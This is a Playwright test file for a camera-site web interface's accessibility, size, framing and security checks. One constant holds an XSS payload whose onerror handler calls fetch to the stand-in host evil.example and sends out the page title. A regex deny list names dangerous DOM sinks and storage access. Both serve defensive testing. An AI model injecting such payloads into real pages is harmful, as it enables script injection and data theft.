"""The screens of the page: nobody is shut out, hostile texts stay texts, nothing is approved that was not looked at."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from in_chromium import axe_faults
from page_stub import CODE, PAGE, Stub, served
from page_values import camera, zone
from playwright.sync_api import Browser, Page

from agent.onsite.ui import documents

Opening = Callable[..., Page]
HOSTILE = "<img src=x onerror=fetch('//evil.example/'+document.title)>\"'</script><script>alert(1)</script>"
PHONE: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
LOOKS: dict[str, dict[str, Any]] = {
    "light, English": {"lang": "en", "color_scheme": "light"},
    "dark, Chinese": {"lang": "zh_CN", "color_scheme": "dark"},
    "dark, on a phone": {"lang": "en", "color_scheme": "dark", **PHONE},
    "Chinese, 400 % zoom": {"lang": "zh_CN", "color_scheme": "light", "viewport": {"width": 320, "height": 256}},
}  # fmt: skip
PAGE_MAX_BYTES = 60 * 1024


def shown(stub: Stub) -> Stub:
    """Something to see on every screen."""
    stub.cameras["yard"] |= {"draft": True}
    stub.marks["gate"] = {}
    return stub


def screens(page: Page) -> dict[str, Callable[[], object]]:
    """How to come to each screen, and to each part that opens within one."""

    def goes(screen: str, sign: str) -> None:
        page.evaluate("to => { location.hash = to; }", screen)
        page.wait_for_selector(f"main:not([aria-busy]) {sign}")

    def drawing() -> None:
        page.locator("[data-key=draw]").click()
        page.wait_for_selector(".surface polygon.zone")
        page.locator("[data-corner='1']").focus()
        page.locator("[data-key=card]").click()
        page.wait_for_selector(".card table")

    def ladder() -> None:
        page.locator("[data-key=ladder]").click()
        page.wait_for_selector(".ladder .verdict.fail")
        page.locator("[data-key=live]").click()

    def keys() -> None:
        page.locator("[data-key=help]").click()
        page.wait_for_selector("dialog[open]")

    def site() -> None:
        goes("#/site", ".timeline")
        page.evaluate("() => document.querySelectorAll('details').forEach((one) => { one.open = true; })")

    return {
        "wall": lambda: goes("#/wall", ".tile img.there"),
        "looking": lambda: goes("#/camera/hall", ".shot img"),
        "drawing": drawing,
        "on the ladder": ladder,
        "review": lambda: goes("#/review", ".diff"),
        "site": site,
        "keys": keys,
    }


@pytest.mark.parametrize("look", LOOKS)
def test_axe_finds_nothing_on_any_screen_and_no_screen_scrolls_sideways(look: str, opened: Opening) -> None:
    given = dict(LOOKS[look])
    stub = shown(Stub())
    stub.lang = given.pop("lang")
    page = opened(stub, **given)
    found, wide = {}, {}
    for name, come in screens(page).items():
        come()
        if faults := axe_faults(page, "target-size"):
            found[name] = faults
        over = page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")
        if over > 0:
            wide[name] = over
    assert (found, wide) == ({}, {})


def test_axe_does_find_what_is_wrong(opened: Opening) -> None:
    page = opened(Stub())
    page.evaluate("() => document.querySelector('main').append(document.createElement('button'))")
    assert "button-name" in axe_faults(page)


def test_what_a_finger_must_hit_is_large_enough(opened: Opening) -> None:
    """WCAG 2.2 SC 2.5.8 asks for 24 px; under a finger it is 44."""
    small = """least => [...document.querySelectorAll('button, .corner, .tile, input:not([type=checkbox]), nav a')]
      .filter((one) => one.checkVisibility() && !one.closest('.skip'))
      .map((one) => [one.outerHTML.slice(0, 80), (one.querySelector('.reach') ?? one).getBoundingClientRect()])
      .filter(([, { width, height }]) => Math.min(width, height) < least - 0.5)"""
    for phone, least in ((True, 44), (False, 24)):
        look: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
        page = opened(Stub(), "#/camera/gate", **(look if phone else {}))
        page.locator("[data-key=draw]").click()
        page.wait_for_selector(".corner")
        assert page.evaluate(small, least) == []


def test_hostile_names_stay_texts_make_no_request_and_no_console_line(opened: Opening) -> None:
    cam = camera(
        "hall", name=HOSTILE, placement=HOSTILE, words=HOSTILE,
        zones=[zone(HOSTILE, [[0.1, 0.1], [0.4, 0.1], [0.4, 0.4]], 0.5)],
        masks=[{"name": HOSTILE, "enabled": False, "polygon": [[0.1, 0.2], [0.4, 0.2], [0.4, 0.6]]}],
        device={"id": HOSTILE, "make": HOSTILE, "model": HOSTILE, "words": HOSTILE}, presets=[HOSTILE], names=[HOSTILE],
    )  # fmt: skip
    stub = Stub({"hall": cam, "yard": camera("yard"), "gate": camera("gate")}, site_name=HOSTILE)
    page = opened(shown(stub))
    for come in screens(page).values():
        come()
        assert page.evaluate("() => document.querySelectorAll('main img[src=x], main script').length") == 0
    page.locator("dialog button").click()
    page.evaluate("to => { location.hash = to; }", "#/camera/hall")
    page.wait_for_selector(".shot img")
    assert page.locator("h1").inner_text() == HOSTILE
    assert all("evil" not in path and path != "/x" for _, path, _ in stub.asked)


@pytest.mark.parametrize("name", sorted(path.name for path in PAGE.glob("*.js")))
def test_no_module_makes_markup_of_texts_or_is_too_long(name: str) -> None:
    text = (PAGE / name).read_text()
    forbidden = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|setAttribute\(\"(style|on)"
    assert (
        re.findall(
            forbidden + r"|localStorage|sessionStorage|document\.cookie|https?://(?!www\.w3\.org/2000/svg)", text
        )
        == []
    )
    assert text.count("\n") <= 300 and max(map(len, text.splitlines())) < 260


def test_another_site_cannot_frame_the_page(browser: Browser) -> None:
    stub = Stub()
    with served(stub):
        page = browser.new_page()
        framing = f"<iframe src={stub.origin}/></iframe>"
        page.route("http://127.0.0.9/**", lambda route: route.fulfill(content_type="text/html", body=framing))
        with page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
            page.goto("http://127.0.0.9/")
        assert all(not path.startswith(("/js", "/api")) for _, path, _ in stub.asked)
        page.close()


def test_the_code_leaves_the_address_and_the_key_leaves_no_trace(opened: Opening) -> None:
    page = opened(Stub())
    assert CODE not in page.url and CODE not in page.evaluate(
        "() => JSON.stringify([history.state, document.cookie, {...localStorage}, {...sessionStorage}])"
    )
    assert page.evaluate("() => [document.cookie, localStorage.length, sessionStorage.length]") == ["", 0, 0]


def test_who_wants_no_motion_and_forced_colours_has_a_page_all_the_same(opened: Opening) -> None:
    page = opened(Stub(), reduced_motion="reduce", forced_colors="active")
    page.wait_for_selector(".tile img.there")
    assert page.evaluate("() => getComputedStyle(document.querySelector('.tile img')).transitionDuration") == "0s"
    border = "() => getComputedStyle(document.querySelector('nav [aria-current]')).borderTopWidth"
    assert page.evaluate(border) == "3px"


def test_the_whole_page_is_small_and_nothing_of_it_comes_from_outside(opened: Opening) -> None:
    stub = shown(Stub())
    stub.lang = "zh_CN"
    page = opened(stub)
    for come in screens(page).values():
        come()
    files = [(PAGE / "index.html").read_bytes(), documents.style(), *(path.read_bytes() for path in PAGE.glob("*.js"))]
    assert sum(len(documents.packed(data)) for data in files) <= PAGE_MAX_BYTES
    assert {path for method, path, _ in stub.asked if not path.startswith("/api/")} == {
        "/",
        "/app.css",
        *(f"/js/{path.name}" for path in PAGE.glob("*.js")),
    }
